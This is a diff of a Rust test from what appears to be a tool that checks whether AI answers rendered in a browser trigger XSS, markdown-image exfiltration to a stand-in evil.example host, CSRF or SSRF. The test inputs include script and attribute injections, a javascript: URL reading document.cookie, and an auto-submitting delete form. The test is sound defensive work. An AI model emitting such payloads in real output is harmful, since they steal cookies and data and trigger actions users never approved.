@@ -229,40 +229,37 @@ fn a_browser_shows_which_sinks_an_answer_gets_through() {
     let collector = Collector::start().unwrap();
     let base = collector.base();
     let harmless = "Hello, **world**. 1 < 2 & *three*. See https://example.com/.";
-    let Some(hits) = browsed(harmless, page::SINKS, &collector) else { return };
+    let Some(hits) = browsed(harmless, &["raw_html", "script_string"], &collector) else { return };
     assert_eq!(hits, []);
     let browsed = |answer: &str, sinks: &[&str]| browsed(answer, sinks, &collector).unwrap();
 
-    let hits = browsed("<script>alert('k3n9wq7d2m5xz8ra')</script>", &["raw_html", "markdown_html", "markdown"]);
-    assert_eq!(sinks_of(&hits, SinkKind::Xss), ["markdown_html", "raw_html"], "{hits:#?}");
-    assert!(hits.iter().all(|hit| hit.evidence == "hook alert(\"k3n9wq7d2m5xz8ra\") fired"));
+    let hits = browsed("<script>alert('k3n9wq7d2m5xz8ra')</script>", &["markdown_html", "markdown"]);
+    assert_eq!(sinks_of(&hits, SinkKind::Xss), ["markdown_html"], "{hits:#?}");
+    assert_eq!(hits[0].evidence, "hook alert(\"k3n9wq7d2m5xz8ra\") fired");
 
-    let hits = browsed("</script><script>alert(1)</script>", &["script_string", "url_href"]);
-    assert_eq!(sinks_of(&hits, SinkKind::Xss), ["script_string"], "{hits:#?}");
-
-    let hits = browsed("\" autofocus onfocus=\"alert(1)", &["attribute", "url_href", "raw_html"]);
+    let hits = browsed("\" autofocus onfocus=\"alert(1)", &["attribute"]);
     assert_eq!(sinks_of(&hits, SinkKind::Xss), ["attribute"], "{hits:#?}");
 
-    let hits = browsed("\"; fetch('/x'); //", &["script_string", "attribute"]);
+    let hits = browsed("\"; fetch('/x'); //", &["script_string"]);
     assert_eq!(sinks_of(&hits, SinkKind::Xss), ["script_string"], "{hits:#?}");
 
-    let hits = browsed("javascript:alert(document.cookie)", &["url_href", "markdown"]);
+    let hits = browsed("javascript:alert(document.cookie)", &["url_href"]);
     assert_eq!(sinks_of(&hits, SinkKind::Xss), ["url_href"], "{hits:#?}");
 
-    let hits =
-        browsed("![chart](http://evil.example/c.png?d=k3n9wq7d2m5xz8ra)", &["markdown", "markdown_html", "raw_html"]);
-    assert_eq!(sinks_of(&hits, SinkKind::MarkdownExfil), ["markdown", "markdown_html"], "{hits:#?}");
-    assert!(sinks_of(&hits, SinkKind::Xss).is_empty());
-    assert!(hits.iter().any(|hit| hit.evidence == "GET http://evil.example/c.png?d=k3n9wq7d2m5xz8ra"), "{hits:#?}");
-
-    let hits = browsed("![chart](https://evil.example/c.png?d=k3n9wq7d2m5xz8ra)", &["markdown"]);
-    assert_eq!(kinds(&hits), [SinkKind::MarkdownExfil], "{hits:#?}");
-
-    let hits = browsed(
-        &format!("![]({base}/account/transfer?to=x) and ![]({base}/internal/status)"),
-        &["markdown", "url_href"],
+    let images = format!(
+        "![a](http://evil.example/c.png?d=k3n9wq7d2m5xz8ra) ![b](https://evil.example/d.png?d=k3n9wq7d2m5xz8ra) \
+         ![c](http://evil.example/e.png) ![d]({base}/account/transfer?to=x) ![e]({base}/internal/status)"
     );
-    assert_eq!(kinds(&hits), [SinkKind::Csrf, SinkKind::Ssrf], "{hits:#?}");
+    let hits = browsed(&images, &["markdown"]);
+    assert_eq!(sinks_of(&hits, SinkKind::Xss).len(), 0, "{hits:#?}");
+    let lines: Vec<&str> =
+        hits.iter().filter(|hit| hit.kind == SinkKind::MarkdownExfil).map(|hit| hit.evidence.as_str()).collect();
+    assert!(lines.contains(&"GET http://evil.example/c.png?d=k3n9wq7d2m5xz8ra"), "{hits:#?}");
+    assert!(lines.contains(&"tried to load https://evil.example/d.png?d=k3n9wq7d2m5xz8ra"), "{hits:#?}");
+    assert!(!lines.iter().any(|line| line.contains("e.png")), "{hits:#?}");
+    for (kind, path) in [(SinkKind::Csrf, "/account/transfer"), (SinkKind::Ssrf, "/internal/status")] {
+        assert!(hits.iter().any(|hit| hit.kind == kind && hit.evidence.contains(path)), "{hits:#?}");
+    }
 
     let form = format!("<form id=f method=post action=\"{base}/account/delete\"></form><script>f.submit()</script>");
     let hits = browsed(&form, &["raw_html"]);
